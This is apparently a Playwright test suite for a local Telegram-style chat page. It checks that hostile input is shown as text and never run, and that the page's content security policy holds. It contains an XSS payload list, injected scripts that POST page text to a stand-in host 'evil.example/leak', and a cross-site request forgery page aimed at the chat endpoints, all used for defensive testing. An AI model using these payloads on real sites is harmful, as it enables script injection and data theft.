"""Whatever is in a name, a text, a button or a file: on the page it is text. Nothing runs, nothing leaves."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import httpx
from playwright.async_api import Browser, Page, Request, expect

from bot.localchat import Clock, LocalTelegram, serve
from bot.localchat.server import page_address
from tests.localchat.raw import TOKEN, sound

ME = 1001
EVIL = "https://evil.example"
HOSTILE = (
    "<script>window.ran='script'</script>",
    "<img src=x onerror=window.ran='img'>",
    f"<img src={EVIL}/leak.png>",
    "<svg onload=window.ran='svg'></svg>",
    "\"><script>window.ran='quote'</script>",
    "' onmouseover='window.ran=1' x='",
    "javascript:window.ran='address'",
    "</textarea></title></style><script>window.ran='end'</script>",
    "<iframe srcdoc=\"<script>parent.ran='frame'</script>\"></iframe>",
    f"<iframe src={EVIL}/frame></iframe>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<style>@import '{EVIL}/b.css';</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}><input autofocus onfocus=window.ran='focus'>",
    "<video><source onerror=window.ran='video'></video>",
    "<details open ontoggle=window.ran='toggle'>",
    "<math><mtext><mglyph><style><!--</style><img src=x onerror=window.ran='math'>",
    "{{constructor.constructor('window.ran=1')()}} ${window.ran='template'}",
    "&lt;script&gt;window.ran='twice'&lt;/script&gt;",
    "<!--><script>window.ran='comment'</script>",
    "\u202e<b>right to left</b>",
)
SHORT = "<img src=x onerror=ran=1>"
"""A payload with room for more in 64 bytes."""
WATCH = """
addEventListener('securitypolicyviolation', (event) => (window.refused ??= []).push(event.effectiveDirective));
"""
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (2).to_bytes(4, "big") * 2


@dataclass
class Watched:
    """A page, what it asked the network for, and what else must not happen."""

    page: Page
    telegram: LocalTelegram
    bot: httpx.AsyncClient
    address: str
    asked: list[Request] = field(default_factory=list)
    happened: list[str] = field(default_factory=list)

    async def call(self, method: str, **given: Any) -> Any:
        """The bot calls."""
        answer = (await self.bot.post(f"/bot{TOKEN}/{method}", json=given)).json()
        assert answer["ok"], answer
        return answer["result"]

    async def upload(self, method: str, kind: str, name: str, data: bytes, mime: str, **given: Any) -> None:
        """The bot sends a file."""
        files = {kind: (name, data, mime)}
        answer = (await self.bot.post(f"/bot{TOKEN}/{method}", data={"chat_id": ME, **given}, files=files)).json()
        assert answer["ok"], answer

    async def unharmed(self) -> None:
        """Nothing ran, nothing was tried, nothing was asked of anybody else."""
        assert await self.page.evaluate("[window.ran, window.refused]") == [None, None]
        assert len(self.page.frames) == 1
        assert {urlsplit(request.url).netloc for request in self.asked} == {self.address.removeprefix("http://")}
        assert self.happened == []


@asynccontextmanager
async def watched(browser: Browser) -> AsyncIterator[Watched]:
    """A page that is open, whose every request is noted."""
    telegram = LocalTelegram(":memory:", token=TOKEN, clock=Clock())
    address, stop = await serve(telegram)
    tab = await browser.new_context(viewport={"width": 1000, "height": 800})
    try:
        await tab.add_init_script(WATCH)
        page = await tab.new_page()
        async with httpx.AsyncClient(base_url=address) as bot:
            seen = Watched(page, telegram, bot, address)

            def asked(request: Request) -> None:
                seen.asked.append(request)

            async def dismissed(dialog: Any) -> None:
                seen.happened.append(f"a dialog: {dialog.message}")
                await dialog.dismiss()

            tab.on("request", asked)
            tab.on("page", lambda other: seen.happened.append(f"a window: {other.url}"))
            page.on("dialog", dismissed)
            page.on("pageerror", lambda error: seen.happened.append(f"an error: {error}"))
            await page.goto(page_address(telegram, address))
            yield seen
    finally:
        await tab.close()
        await stop()
        await telegram.close()


async def test_script_in_names_texts_buttons_and_files_is_shown_and_never_run(browser: Browser) -> None:
    async with watched(browser) as seen:
        telegram, page = seen.telegram, seen.page
        telegram.me["first_name"] = HOSTILE[0]
        telegram.person(ME, first_name=HOSTILE[1])
        await seen.call("setMyName", name=HOSTILE[2])
        await seen.call("setMyDescription", description="\n".join(HOSTILE)[:512])
        await seen.call("setMyCommands", commands=[{"command": "x", "description": text} for text in HOSTILE])
        await expect(page.locator("#description")).to_contain_text(HOSTILE[0])
        await page.get_by_role("button", name="Start").click()
        for text in HOSTILE:
            await telegram.say(ME, text)
            keys = [[{"text": text, "callback_data": SHORT}, {"text": text, "copy_text": {"text": text}}]]
            await seen.call("sendMessage", chat_id=ME, text=text, reply_markup={"inline_keyboard": keys})
        one = "\n".join(HOSTILE)[:1000]
        await seen.upload("sendVoice", "voice", f"{SHORT}.ogg", sound(1.0), "text/html", caption=one)
        await seen.upload("sendPhoto", "photo", f"{SHORT}.svg", PNG, "image/svg+xml", caption=one)
        await seen.upload("sendAudio", "audio", SHORT, sound(1.0), "audio/ogg", title=one, performer=one, caption=one)
        await seen.upload("sendDocument", "document", f"{SHORT}.html", HOSTILE[0].encode(), "text/html", caption=one)
        await seen.call("setMessageReaction", chat_id=ME, message_id=2, reaction=[{"type": "emoji", "emoji": SHORT}])
        log = page.get_by_role("log")
        await expect(log.locator(".message")).to_have_count(2 * len(HOSTILE) + 5)
        await expect(log.locator(".document b")).to_have_text(f"{SHORT}.html")
        for number, text in enumerate(HOSTILE):
            mine, bots = (page.locator(f'[data-id="{2 * number + place}"] .text') for place in (2, 3))
            assert await mine.text_content() == text
            assert await bots.text_content() == text.replace("\u202e", ""), "Telegram takes such signs away"
        labels = await log.locator(".keyboard .key").all_text_contents()
        assert labels == [text for text in HOSTILE for _ in "12"]
        await page.get_by_role("button", name="Commands").click()
        assert await page.locator("#commands span").all_text_contents() == list(HOSTILE)
        await seen.unharmed()


async def test_script_in_toasts_and_alerts_is_shown_and_never_run(browser: Browser) -> None:
    async with watched(browser) as seen:
        await seen.page.get_by_role("button", name="Start").click()
        await expect(seen.page.get_by_role("log").get_by_text("/start")).to_be_visible()
        keys = [[{"text": "Tap", "callback_data": HOSTILE[0]}]]
        await seen.call("sendMessage", chat_id=ME, text="x", reply_markup={"inline_keyboard": keys})
        for alert in (False, True):
            await seen.page.get_by_role("button", name="Tap").click()
            query = (await seen.call("getUpdates", offset=-1, timeout=2))[-1]["callback_query"]
            assert query["data"] == HOSTILE[0]
            said = HOSTILE[1] + HOSTILE[0]
            await seen.call("answerCallbackQuery", callback_query_id=query["id"], text=said, show_alert=alert)
            await expect(seen.page.locator("#alert p" if alert else "#toast")).to_have_text(said)
        await seen.unharmed()


async def test_what_the_server_would_have_refused_harms_nobody_either(browser: Browser) -> None:
    """The page is no safer for trusting its server: addresses that run something lead nowhere."""
    async with watched(browser) as seen:
        await seen.page.get_by_role("button", name="Start").click()
        await expect(seen.page.get_by_role("log").get_by_text("/start")).to_be_visible()
        script, data = "javascript:window.ran='address'", "data:text/html,<script>opener.ran=1</script>"
        kinds = ["text_link", "url", "bot_command", "spoiler", "blockquote", "expandable_blockquote", "pre", "nonsense"]
        chat = seen.telegram.chat(ME)
        for address in (
            script,
            data,
            "vbscript:x",
            "\tjava\nscript:window.ran=1",
            f"blob:{seen.address}/x",
            "file:///",
        ):
            entities = [{"type": kind, "offset": 0, "length": len(address), "url": address} for kind in kinds]
            body = {
                "from": seen.telegram.me_as_user,
                "chat": chat,
                "date": seen.telegram.date(),
                "text": address,
                "entities": entities,
                "reply_markup": {"inline_keyboard": [[{"text": "Go", "url": address}]]},
            }
            seen.telegram.show(ME, body, {"silent": True})
        keys = seen.page.locator(".keyboard .key")
        await expect(keys).to_have_count(6)
        assert await seen.page.locator("#log a[href]").count() == 0
        for number in range(6):
            await keys.nth(number).click()
        while await seen.page.locator(".spoiler").count():
            await seen.page.locator(".spoiler").first.click()
        await seen.unharmed()


async def test_the_policy_is_in_force_should_the_page_ever_fail(browser: Browser) -> None:
    async with watched(browser) as seen:
        await expect(seen.page.get_by_role("button", name="Start")).to_be_visible()
        await seen.page.evaluate(
            """(evil) => {
                const make = (tag, properties) => Object.assign(document.createElement(tag), properties);
                const put = (tag, properties) => document.body.append(make(tag, properties));
                put('script', {textContent: "window.ran = 'inline'"});
                put('script', {src: `${evil}/a.js`});
                put('img', {src: `${evil}/a.png`});
                put('iframe', {src: `${evil}/frame`});
                put('link', {rel: 'stylesheet', href: `${evil}/a.css`});
                put('style', {textContent: 'body { color: red }'});
                put('object', {data: `${evil}/a.swf`});
                put('div', {innerHTML: "<img src=x onerror=window.ran='handler'>"});
                put('a', {href: "javascript:window.ran='address'", id: 'run', textContent: 'run'});
                document.getElementById('run').click();
                setTimeout("window.ran = 'text'", 0);
                fetch(`${evil}/leak`, {method: 'POST', body: document.body.innerText}).catch(() => {});
                navigator.sendBeacon(`${evil}/leak`, 'x');
                new Worker('data:text/javascript,postMessage(1)').onerror = () => {};
            }""",
            EVIL,
        )
        await seen.page.wait_for_function("(window.refused ?? []).length >= 12")
        refused = set(await seen.page.evaluate("window.refused"))
        assert {
            *(
                "script-src-elem",
                "script-src-attr",
                "script-src",
                "img-src",
                "frame-src",
                "style-src-elem",
                "object-src",
            ),
            *("connect-src", "worker-src"),
        } <= refused
        assert await seen.page.evaluate("window.ran") is None
        assert {request.failure for request in seen.asked if request.url.startswith(EVIL)} == {"csp"}


ANOTHER_PAGE = """<!doctype html><script>
const chat = '%s', ask = (path, how) => fetch(chat + path, {credentials: 'include', ...how});
const tries = {
  say: () => ask('/chat/say', {method: 'POST', mode: 'no-cors', body: '{"text": "evil"}'}),
  tap: () => ask('/chat/tap', {method: 'POST', body: '{"message_id": 1, "data": "evil"}'}),
  read: () => ask('/chat/events').then((answer) => answer.text()),
  blind: () => ask('/page/main.js', {mode: 'no-cors'}),
};
for (const [name, start] of Object.entries(tries)) start().then(() => document.title += ' ' + name, () => {});
const form = Object.assign(document.createElement('form'), {method: 'post', enctype: 'text/plain', target: 'form'});
form.action = chat + '/chat/say';
form.append(Object.assign(document.createElement('input'), {name: '{"text": "evil', value: '"}'}));
for (const name of ['form', 'frame']) document.write(`<iframe name=${name}></iframe>`);
document.body.append(form);
form.submit();
frames.frame.location = chat + '/';
</script>"""


async def test_another_page_in_the_same_browser_can_neither_write_nor_read(browser: Browser) -> None:
    """On another port of the same host: to cookies, that is the same site."""
    async with watched(browser) as seen:
        await seen.page.get_by_role("button", name="Start").click()
        await expect(seen.page.get_by_role("log").get_by_text("/start")).to_be_visible()
        page = (ANOTHER_PAGE % seen.address).encode()

        async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n" + page)
            writer.close()

        async with await asyncio.start_server(answer, "127.0.0.1", 0) as server:
            other = await seen.page.context.new_page()
            own = len(seen.asked)
            await other.goto(f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/")

            def tried() -> list[tuple[str, bool]]:
                asked = [request for request in seen.asked[own:] if request.url.startswith(seen.address)]
                return [(request.url.removeprefix(seen.address), bool(request.failure)) for request in asked]

            await seen.telegram.until(lambda: [failed for _, failed in tried()] == [True] * 6, 10)
        paths = ["/", "/chat/events", "/chat/say", "/chat/say", "/chat/tap", "/page/main.js"]
        assert sorted(path for path, _ in tried()) == paths, "all that it tries was tried"
        assert await other.title() == "", "nothing succeeded"
        assert {frame.url for frame in other.frames[1:]} == {"chrome-error://chromewebdata/"}
        assert [message.text for message in seen.telegram.messages(ME)] == ["/start"]
        assert len(await seen.call("getUpdates")) == 1
